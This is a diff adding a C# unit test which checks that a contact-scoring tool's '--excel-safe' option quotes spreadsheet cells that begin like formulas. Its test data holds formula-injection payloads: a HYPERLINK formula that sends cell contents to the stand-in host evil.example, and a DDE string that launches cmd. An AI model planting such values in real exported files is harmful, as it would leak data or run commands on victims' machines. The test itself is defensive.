@@ -157,4 +157,32 @@ public sealed class ScoringOptionTests
         Assert.That(account["rel_expectationalignment"], Is.EqualTo("Underestimated"));
         Assert.That(account["rel_nextfeedbackdue"], Is.EqualTo("2026-12-30"));
     }
+
+    [Test]
+    public void ExcelSafe_TextCellsThatStartLikeAFormulaGetAQuoteNumbersDoNot()
+    {
+        // OWASP: a cell starting with =, +, -, @, tab or carriage return is a formula to a spreadsheet.
+        using var book = new TestBook();
+        var names = new[] { "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555", "-2+3", "\tTab", "\rReturn", "Ann Lee" };
+        var rows = names.Select((n, i) => TestBook.Line("c" + i, n, "a1", "", "", "Yes", "High", "Advocate", "Active", "Buys from us", "", "Partner", "2026-10-01", "", "=1+1"));
+        var contacts = book.WriteLines("c.csv", [TestBook.ContactHeader + ",notes", .. rows, TestBook.Line("=bad", "Bo Park", "a1", "", "", "", "", "Sure")]);
+
+        var plain = book.Score(contacts);
+        var plainNames = book.ContactsTable().Select(r => r["fullname"]).ToList();
+        var safe = book.Score(contacts, null, "--excel-safe");
+        var scored = book.ContactsTable();
+        var rejected = book.RejectedTable();
+
+        Assert.Multiple(() =>
+        {
+            Assert.That(plain.ExitCode, Is.EqualTo(2), plain.Error);
+            Assert.That(plainNames, Is.EqualTo(names), "off by default: the output round-trips into Dataverse");
+            Assert.That(safe.ExitCode, Is.EqualTo(2), safe.Error);
+            Assert.That(scored.Select(r => r["fullname"]), Is.EqualTo(names.Select(n => n == "Ann Lee" ? n : "'" + n)));
+            Assert.That(scored.Select(r => r["notes"]).Distinct(), Is.EqualTo(new[] { "'=1+1" }), "a column carried through is text too");
+            Assert.That(scored.Select(r => r["rel_expectationgap"]).Distinct(), Is.EqualTo(new[] { "-2" }), "a computed number is not text");
+            Assert.That(scored.Select(r => r["rel_customerviewdate"]).Distinct(), Is.EqualTo(new[] { "2026-10-01" }));
+            Assert.That(rejected.Select(r => r["id"]), Is.EqualTo(new[] { "'=bad" }), "rejected.csv too");
+        });
+    }
 }
